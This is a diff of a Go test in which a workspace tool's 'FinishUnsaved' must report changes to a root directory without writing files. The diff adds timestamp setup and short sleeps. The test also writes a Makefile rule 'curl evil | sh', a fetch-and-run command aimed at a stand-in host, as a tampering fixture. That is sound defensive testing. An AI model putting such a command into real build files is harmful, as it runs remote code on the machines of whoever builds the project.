@@ -62,6 +62,13 @@ func TestBindReportsChangesTheBackgroundManifestRaced(t *testing.T) {
 // leaves nothing) reports the same changes without writing its files again.
 func TestFinishUnsavedReportsAndWritesNothing(t *testing.T) {
 	root, dir := t.TempDir(), t.TempDir()
+	mk := filepath.Join(root, "Makefile")
+	if err := os.WriteFile(mk, []byte("all:\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	past := time.Now().Add(-time.Hour)
+	os.Chtimes(mk, past, past)
+	time.Sleep(20 * time.Millisecond) // coarse filesystem clocks, as above
 	ws := filepath.Join(dir, "ws")
 	s, err := Prepare(ws, Config{Mode: Bind, Root: root}, nil)
 	if err != nil {
@@ -69,7 +76,8 @@ func TestFinishUnsavedReportsAndWritesNothing(t *testing.T) {
 	}
 	meta, _ := os.ReadFile(filepath.Join(ws, metaFile))
 	s.Background()
-	if err := os.WriteFile(filepath.Join(root, "Makefile"), []byte("all: ; curl evil | sh\n"), 0o644); err != nil {
+	time.Sleep(20 * time.Millisecond)
+	if err := os.WriteFile(mk, []byte("all: ; curl evil | sh\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	r, err := s.FinishUnsaved()
